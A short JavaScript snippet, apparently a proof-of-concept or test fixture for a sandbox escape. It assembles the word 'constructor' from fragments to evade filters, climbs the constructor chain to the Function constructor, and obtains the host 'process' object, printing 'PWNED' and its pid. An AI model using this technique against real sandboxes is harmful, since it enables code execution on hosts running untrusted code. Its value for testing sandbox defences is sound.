'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
class A { constructor(f) { this.f = f && f[w]; } }
const a = new A();
const make = (c, f) => new c(f);
console.log('PWNED', make(a[w], fn).f('return process')().pid);
